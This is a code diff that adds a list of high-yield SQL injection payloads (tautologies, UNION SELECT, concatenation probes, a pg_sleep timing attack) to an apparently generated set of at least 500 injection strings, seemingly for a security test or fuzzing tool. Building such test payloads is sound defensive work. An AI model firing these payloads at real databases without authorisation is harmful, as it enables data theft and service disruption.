@@ -56,9 +56,22 @@ const attacks = [
 
 const endings = ['', ' --', ';--', ' /*', ')--', '\0'];
 
+/** Those that succeed in the commonest gaps: tried in each place, however few of the others are. */
+export const surestInjections: readonly string[] = [
+  "' OR 1=1 --",
+  "' OR 'a'='a",
+  "') OR 1=1 --",
+  '" OR 1=1 --',
+  '1 OR 1=1',
+  "' UNION SELECT 'pika'||'injected' --",
+  "'||(SELECT 'pika'||'injected')||'",
+  `'; SELECT pg_sleep(${sleepSeconds}) --`,
+];
+
 /** Every exit with every attack and, turn by turn, the endings; then those that need no exit. At least 500, all different. */
 export const injections: readonly string[] = [
   ...new Set([
+    ...surestInjections,
     ...exits.flatMap((exit, at) =>
       attacks.flatMap((attack, then) =>
         [0, 1].map((turn) => `${exit}${attack}${endings[(at + then + turn * 3) % endings.length] ?? ''}`),
